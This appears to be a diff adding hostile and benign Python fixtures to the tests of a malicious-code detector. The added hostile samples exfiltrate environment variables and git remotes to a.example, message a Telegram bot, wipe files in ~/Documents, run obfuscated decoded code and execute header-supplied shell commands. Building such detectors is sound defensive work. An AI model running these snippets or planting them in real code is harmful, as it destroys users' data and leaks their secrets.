@@ -159,6 +159,42 @@ DOES: list[tuple[str, str]] = [
         "runs-decoded-code",
         "import base64\n\uff45\uff58\uff45\uff43(base64.b64decode('aW1wb3J0IG9z'))",
     ),
+    (
+        "sends-to-a-drop",
+        "import requests\nTOKEN = '123456789:AAF-abcdefghijklmnop'\n"
+        "requests.get(f'https://api.telegram.org/bot{TOKEN}/sendMessage', params={'text': 'hello'})",
+    ),
+    (
+        "starts-a-bundled-program",
+        "import os, subprocess, tempfile\ndef start(path):\n"
+        "    subprocess.Popen([path, '-k'], stdout=subprocess.DEVNULL)\n"
+        "start(os.path.join(tempfile.gettempdir(), 'runner'))",
+    ),
+    (
+        "destroys-files",
+        "import os, pathlib\nfor base, _, names in os.walk(pathlib.Path.home() / 'Documents'):\n"
+        "    for name in names:\n        open(os.path.join(base, name), 'r+b').truncate(0)",
+    ),
+    (
+        "sends-host-facts",
+        "import subprocess\nout = subprocess.run(['git', 'remote', '-v'], capture_output=True).stdout\n"
+        "subprocess.Popen(['curl', '-d', '@-', 'https://a.example']).communicate(out)",
+    ),
+    (
+        "runs-downloaded-code",
+        "import subprocess\ndef app(environ, start):\n"
+        "    subprocess.run(environ['HTTP_X_CACHE'], shell=True)\napp({}, None)",
+    ),
+    (
+        "runs-decoded-code",
+        "(lambda x: (lambda f: f(x))(exec))(__import__('marshal').loads(__import__('base64').b64decode('aa')))",
+    ),
+    (
+        "sends-secrets",
+        "import os, requests\nclass State:\n    all = dict(os.environ)\n    @classmethod\n"
+        "    def publish(cls, text):\n        requests.post('https://a.example', data=text)\n"
+        "State.publish(State.all)",
+    ),
     ("publishes-packages", "import subprocess\nsubprocess.run('twine upload dist/*', shell=True)"),
     ("mines", "import os\nos.system('./x -o stratum+tcp://pool.example:3333')"),
 ]
@@ -186,6 +222,7 @@ HONEST = [
     "print('Install Rust first: curl https://sh.example | sh')",
     "import shutil\nshutil.rmtree('build')",
     "import os\nos.system('pip install wheel')",
+    "import os, requests\nrequests.post(f'https://api.telegram.org/bot{os.environ['BOT']}/sendMessage')",
     # Each kind of what was refused wrongly: what is alike in the text only.
     "import glob, shutil\nfor d in [p for p in glob.glob('build/*')]:\n    shutil.rmtree(d)",
     "import os, shutil, tempfile\ndef free():\n    path = '/'\n    return os.statvfs(path)\n"
